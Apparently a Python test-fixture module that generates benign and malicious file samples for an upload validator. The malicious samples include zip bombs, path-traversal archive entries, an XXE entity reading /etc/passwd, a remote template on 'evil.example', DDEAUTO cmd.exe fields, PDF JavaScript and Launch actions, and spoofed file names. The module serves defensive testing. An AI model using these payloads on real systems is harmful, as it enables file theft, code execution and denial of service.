"""Files made to do harm, or by accident; each with the verdict it must get: a media type, or the beginning of a refusal.

Everything is made here from bytes, the same each time; no real malware, no foreign file.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from yuanqing.kernel.store.verdict import HARMFUL_SAMPLE

REFUSED = ""


@dataclass(frozen=True)
class Sample:
    """One file: what it is called, its bytes, and the media type it must be taken as; "" when it must be refused."""

    name: str
    content: bytes
    verdict: str = REFUSED


def png(width: int = 3, height: int = 2) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    rows = b"".join(b"\0" + b"\x80" * 3 * width for _ in range(height)) if width * height < 10_000 else b""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def gif(width: int = 1, height: int = 1) -> bytes:
    head = b"GIF89a" + struct.pack("<HH", width, height) + b"\x80\0\0" + bytes(6)
    return head + b"," + struct.pack("<HHHH", 0, 0, width, height) + b"\0" + b"\x02\x02D\x01\0" + b";"


def jpeg(width: int = 8, height: int = 8) -> bytes:
    app = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0"
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\0"
    return b"\xff\xd8" + app + frame + b"\xff\xda\0\x08\x01\x01\0\0\x3f\0\x7f\xff\xd9"


def bmp(width: int = 2, height: int = 2) -> bytes:
    body = bytes(8 * abs(height)) if abs(height) < 1000 else b""
    head = b"BM" + struct.pack("<IHHI", 54 + len(body), 0, 0, 54)
    return head + struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, len(body), 0, 0, 0, 0) + body


def webp(width: int = 4, height: int = 4) -> bytes:
    body = (
        b"VP8X"
        + struct.pack("<I", 10)
        + bytes(4)
        + (width - 1).to_bytes(3, "little")
        + (height - 1).to_bytes(3, "little")
    )
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def tiff(width: int = 4, height: int = 4) -> bytes:
    entries = struct.pack("<HHII", 256, 4, 1, width) + struct.pack("<HHII", 257, 4, 1, height)
    return b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", 2) + entries + bytes(8)


def mp4(brand: bytes = b"isom") -> bytes:
    return (
        struct.pack(">I", 16)
        + b"ftyp"
        + brand
        + bytes(4)
        + struct.pack(">I", 16)
        + b"moov"
        + bytes(8)
        + struct.pack(">I", 24)
        + b"mdat"
        + bytes(16)
    )


def pdf(more: bytes = b"", end: bytes = b"%%EOF\n") -> bytes:
    return b"%PDF-1.7\n1 0 obj\n<</Type/Catalog" + more + b">>\nendobj\ntrailer<</Root 1 0 R>>\nstartxref\n0\n" + end


def objects(inside: bytes) -> bytes:
    """A PDF with an object stream that holds the bytes, compressed."""
    packed = zlib.compress(inside)
    stream = (
        b"2 0 obj\n<</Type/ObjStm/Filter/FlateDecode/Length %d>>\nstream\n" % len(packed)
        + packed
        + b"\nendstream\nendobj\n"
    )
    return b"%PDF-1.7\n" + stream + b"trailer<</Root 1 0 R>>\n%%EOF\n"


Members = dict[str, bytes]


def package(members: Members, *, stored: bool = False) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as made:
        for name, content in members.items():
            made.writestr(
                zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)),
                content,
                zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED,
            )
    return kept.getvalue()


PARTS = {
    "docx": ("word/document.xml", b"<w:document xmlns:w='w'><w:body/></w:document>"),
    "xlsx": ("xl/workbook.xml", b"<workbook/>"),
    "pptx": ("ppt/presentation.xml", b"<p:presentation xmlns:p='p'/>"),
    "odt": ("content.xml", b"<office:document-content xmlns:office='o'/>"),
    "ods": ("content.xml", b"<office:document-content xmlns:office='o'/>"),
    "odp": ("content.xml", b"<office:document-content xmlns:office='o'/>"),
    "ofd": ("OFD.xml", b"<ofd:OFD xmlns:ofd='o'/>"),
}
TYPES = b"<Types><Default Extension='xml' ContentType='application/xml'/></Types>"
MEDIA = {
    "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "pptx": "application/vnd.openxmlformats-officedocument.presentationml.presentation",
    "odt": "application/vnd.oasis.opendocument.text",
    "ods": "application/vnd.oasis.opendocument.spreadsheet",
    "odp": "application/vnd.oasis.opendocument.presentation",
    "ofd": "application/ofd",
}


def office(kind: str, more: Members | None = None, **changes: bytes) -> bytes:
    name, content = PARTS[kind]
    return package(
        {"[Content_Types].xml": changes.get("types", TYPES), name: changes.get("main", content), **(more or {})}
    )


def compound(*words: str) -> bytes:
    names = b"".join(word.encode("utf-16-le").ljust(64, b"\0") + bytes(64) for word in words)
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1016) + names + bytes(1024)


def forged(data: bytes, field: int, value: int, form: str = "<I") -> bytes:
    """The package with a field of its first directory entry changed (24: size, 20: packed size, 8: flags, 42: offset)."""
    place = data.rfind(b"PK\x01\x02") if form == "last" else data.find(b"PK\x01\x02")
    return data[: place + field] + struct.pack(form, value) + data[place + field + struct.calcsize(form) :]


def bomb(size: int, name: str = "a.txt") -> bytes:
    return package({name: bytes(size)})


def overlapping(times: int) -> bytes:
    """Many directory entries that share one member: small on disk, huge when unpacked."""
    made = package({"a.txt": bytes(1 << 16)})
    begin, end = made.find(b"PK\x01\x02"), made.find(b"PK\x05\x06")
    entry = made[begin:end]
    entries = b"".join(entry.replace(b"a.txt", b"%05d" % n) for n in range(times))
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, times, times, len(entries), begin, 0)
    return made[:begin] + entries + tail


def link() -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w") as made:
        info = zipfile.ZipInfo("link")
        info.create_system, info.external_attr = 3, 0o120777 << 16
        made.writestr(info, "/etc/passwd")
    return kept.getvalue()


LAUGHS = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>'
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
TEMPLATE = b'<Relationships><Relationship Id="1" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
HYPERLINK = b'<Relationships><Relationship Id="1" Type="http://x/hyperlink" Target="http://example.org/" TargetMode="External"/></Relationships>'
FIELD = b"<w:document xmlns:w='w'><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText></w:document>"
MACRO_TYPES = b"<Types><Override ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>"
PROGRAMS = (
    b"MZ\x90\0",
    b"\x7fELF\x02",
    b"#!/bin/sh\n",
    b"\xca\xfe\xba\xbe",
    b"\xcf\xfa\xed\xfe",
    b"L\0\0\0\x01\x14\x02\0",
)
PAGES = (
    b"<html>",
    b"<!DOCTYPE html>",
    b"<script>x</script>",
    b"<svg xmlns='x' onload='x'/>",
    b"<?xml version='1.0'?>",
    b"<iframe>",
    b"<?php x",
    b"\xef\xbb\xbf  <HTML>",
    b"<img src=x>",
)


def sound() -> Iterator[Sample]:
    """What people really hand in, so that the checks do not simply refuse everything."""
    yield Sample("图.png", png(), "image/png")
    yield Sample("图.gif", gif(), "image/gif")
    yield Sample("照片.jpg", jpeg(), "image/jpeg")
    yield Sample("照片.JPEG", jpeg(), "image/jpeg")
    yield Sample("图.bmp", bmp(), "image/bmp")
    yield Sample("图.webp", webp(), "image/webp")
    yield Sample("扫描.tif", tiff(), "image/tiff")
    yield Sample("视频.mp4", mp4(), "video/mp4")
    yield Sample("录音.m4a", mp4(b"M4A "), "audio/mp4")
    yield Sample("录音.mp3", b"ID3\x04" + bytes(500), "audio/mpeg")
    yield Sample("录音.wav", b"RIFF" + struct.pack("<I", 100) + b"WAVE" + bytes(96), "audio/wav")
    yield Sample("文件.pdf", pdf(), "application/pdf")
    yield Sample("文件.pdf", objects(b"<</Type/Page>>"), "application/pdf")
    for kind in PARTS:
        yield Sample(f"文件.{kind}", office(kind), MEDIA[kind])
    yield Sample("链接.docx", office("docx", {"word/_rels/document.xml.rels": HYPERLINK}), MEDIA["docx"])
    yield Sample(
        "图表.pptx", office("pptx", {"ppt/embeddings/Microsoft_Excel_Sheet.xlsx": office("xlsx")}), MEDIA["pptx"]
    )
    yield Sample("旧.doc", compound("WordDocument"), "application/msword")
    yield Sample("旧.xls", compound("Workbook"), "application/vnd.ms-excel")
    yield Sample("说明.txt", "情况说明".encode(), "text/plain")
    yield Sample("说明.txt", "情况说明".encode("gb18030"), "text/plain")
    yield Sample("说明.txt", "情况说明".encode("utf-16"), "text/plain")
    yield Sample("表.csv", "单位,人数\n东一厂,3\n".encode("utf-8-sig"), "text/csv")
    yield Sample("材料.zip", package({"一.txt": b"abc", "二/三.png": png()}), "application/zip")


def disguised() -> Iterator[Sample]:
    extensions = ("pdf", "docx", "xlsx", "png", "jpg", "txt", "csv", "mp4", "zip", "doc")
    for extension in extensions:
        for head in (*PROGRAMS, *PAGES):
            yield Sample(f"材料.{extension}", head + bytes(64) if extension != "txt" else head + b" " * 64)
        yield Sample(f"空.{extension}", b"")
        yield Sample(f"乱.{extension}", random.Random(extension).randbytes(3000))
    for extension in ("exe", "js", "html", "svg", "hta", "lnk", "bat", "docm", "xlsm", "rar", "7z", "", "pdf.exe"):
        yield Sample(f"材料.{extension}" if extension else "材料", b"MZ" + bytes(100))
        yield Sample(f"说明.{extension}" if extension else "说明", pdf())
    for name, content in (("图.pdf", png()), ("图.jpg", png()), ("文.png", pdf()), ("表.docx", office("xlsx")), ("表.zip", office("xlsx")), ("文.xlsx", office("docx")), ("旧.docx", compound("WordDocument")), ("表.doc", compound("Workbook"))):  # fmt: skip
        yield Sample(name, content)


def torn() -> Iterator[Sample]:
    whole = (("图.png", png()), ("图.gif", gif()), ("照片.jpg", jpeg()), ("视频.mp4", mp4()), ("文件.pdf", pdf()), *((f"文件.{k}", office(k)) for k in PARTS), ("材料.zip", package({"a.txt": b"abc" * 99})))  # fmt: skip
    for name, content in whole:
        for share in (0.3, 0.6, 0.9):
            yield Sample(name, content[: int(len(content) * share)])


def carrying() -> Iterator[Sample]:
    attachment = package({"a.txt": b"abc"})
    for name, content in (("图.png", png()), ("图.gif", gif()), ("照片.jpg", jpeg()), ("文件.pdf", pdf()), ("图.bmp", bmp()), ("录音.mp3", b"ID3\x04" + bytes(500)), ("视频.mp4", mp4())):  # fmt: skip
        yield Sample(name, content + attachment)
    yield Sample("图.gif", b"GIF89a/*" + bytes(10) + b"*/=1;alert(1)//;")
    yield Sample("图.png", png() + b"<script>alert(1)</script>")
    yield Sample("材料.zip", b"MZ" + bytes(100) + attachment)
    yield Sample("材料.zip", b"PK\x03\x04" + bytes(40) + attachment)
    for action in (b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>", b"/AA<</O<</S/Launch/F(cmd.exe)>>>>", b"/Names<</EmbeddedFile 3 0 R>>", b"/S/J#61vaScript", b"/RichMedia", b"/XFA 3 0 R", b"/Encrypt 5 0 R", b"/#4Aava#53cript"):  # fmt: skip
        yield Sample("文件.pdf", pdf(action))
        yield Sample("文件.pdf", objects(b"<<" + action + b">>"))
    eicar = b"X5O!P%@AP[4" + HARMFUL_SAMPLE
    for name, content in (("a.txt", eicar), ("a.pdf", pdf(eicar)), ("a.csv", b"a,b\n" + eicar)):
        yield Sample(name, content)


def packages() -> Iterator[Sample]:
    yield Sample("炸弹.zip", bomb(96 << 20))
    yield Sample("炸弹.zip", bomb(12 << 20))
    yield Sample("重叠.zip", overlapping(2000))
    yield Sample("太多.zip", package({f"{n}.txt": b"" for n in range(5001)}, stored=True))
    yield Sample("空.zip", package({}))
    yield Sample("链接.zip", link())
    for inner in ("../../etc/passwd", "/etc/passwd", "C:\\x.txt", "..\\x.txt", "a/../../b.txt"):
        yield Sample("逃逸.zip", package({inner: b"x"}))
    for inner in (
        "x.exe",
        "x.js",
        "x.lnk",
        "x.html",
        "x.svg",
        "x.vbs",
        "x.bat",
        "a.zip",
        "a.rar",
        "a.7z",
        "a.tar.gz",
        "x.exe. ",
        "x.docm",
    ):
        yield Sample("夹带.zip", package({inner: b"content"}))
    for program in (*PROGRAMS, b"Rar!\x1a\x07", b"7z\xbc\xaf\x27\x1c", b"\x1f\x8b\x08", package({"a": b"b"})):
        yield Sample("改名.zip", package({"说明.txt": program + bytes(50)}))
    small = package({"a.txt": b"abc" * 999})
    yield Sample("密码.zip", forged(small, 8, 1, "<H"))
    for size in (1, 10, 2**31):
        yield Sample("谎报.zip", forged(small, 24, size))
    for offset in (5, 10_000, 2**31):
        yield Sample("错位.zip", forged(small, 42, offset))
    for n in range(40):  # a bit turned somewhere
        maker = random.Random(n)
        broken = bytearray(small)
        broken[maker.randrange(40, 60)] ^= 1 << maker.randrange(8)
        yield Sample("坏.zip", bytes(broken))


def documents() -> Iterator[Sample]:
    for kind in PARTS:
        yield Sample(f"实体.{kind}", office(kind, main=LAUGHS))
        yield Sample(f"外部.{kind}", office(kind, main=OUTSIDE))
        yield Sample(f"夹带.{kind}", office(kind, {"media/image1.png": b"MZ" + bytes(99)}))
        yield Sample(f"炸弹.{kind}", office(kind, {"big.xml": bytes(66 << 20)}))
        yield Sample(f"宽实体.{kind}", office(kind, main=LAUGHS.decode().encode("utf-16")))
    for kind in ("docx", "xlsx", "pptx"):
        folder = PARTS[kind][0].partition("/")[0]
        yield Sample(f"宏.{kind}", office(kind, {f"{folder}/vbaProject.bin": b"x"}))
        yield Sample(f"宏.{kind}", office(kind, types=MACRO_TYPES))
        yield Sample(f"对象.{kind}", office(kind, {f"{folder}/embeddings/oleObject1.bin": b"x"}))
        yield Sample(f"控件.{kind}", office(kind, {f"{folder}/activeX/activeX1.xml": b"<x/>"}))
        yield Sample(f"模板.{kind}", office(kind, {f"{folder}/_rels/x.xml.rels": TEMPLATE}))
        yield Sample(f"加密.{kind}", compound("EncryptedPackage", "EncryptionInfo"))
    yield Sample("域.docx", office("docx", main=FIELD))
    yield Sample(
        "域.xlsx",
        office(
            "xlsx", {"xl/externalLinks/externalLink1.xml": b"<externalLink><ddeLink ddeService='cmd'/></externalLink>"}
        ),
    )
    yield Sample("表宏.xlsx", office("xlsx", {"xl/macrosheets/sheet1.xml": b"<x/>"}))
    yield Sample("宏.ods", office("ods", {"Basic/Standard/Module1.xml": b"<x/>"}))
    yield Sample("宏.doc", compound("WordDocument", "_VBA_PROJECT"))
    yield Sample("宏.xls", compound("Workbook", "_VBA_PROJECT_CUR"))
    yield Sample("对象.doc", compound("WordDocument", "ObjectPool"))
    yield Sample("密.doc", compound("EncryptedPackage"))


def pictures() -> Iterator[Sample]:
    for width, height in ((50_000, 50_000), (65_535, 65_535), (0, 5), (20_000, 6_000)):
        yield Sample("洪水.png", png(width, height))
        yield Sample("洪水.gif", gif(width, height))
        yield Sample("洪水.jpg", jpeg(width, height))
        yield Sample("洪水.bmp", bmp(width, height * 100))
        yield Sample("洪水.tif", tiff(width, height))
    yield Sample("洪水.webp", webp(16_000, 16_000))


def names() -> Iterator[Sample]:
    for name in (
        "a\0.pdf",
        "表\u202efdp.exe",
        "a\u2066b.pdf",
        "a\nb.pdf",
        "\x1b[2J.pdf",
        "a\ud800.pdf",
        "",
        "..",
        "/",
        "a\u200fb.pdf",
    ):
        yield Sample(name, pdf())
    for name in (
        "../../etc/表.pdf",
        "C:\\x\\表.pdf",
        "con.pdf",
        "LPT1.pdf",
        "甲" * 250 + ".pdf",
        "表 .pdf",
        'a<b>:"|?*.pdf',
        ".隐藏.pdf",
        "é.pdf",
        "表.pdf. ",
    ):
        yield Sample(name, pdf(), "application/pdf")


def corpus() -> list[Sample]:
    made = (sound, disguised, torn, carrying, packages, documents, pictures, names)
    return [sample for each in made for sample in each()]
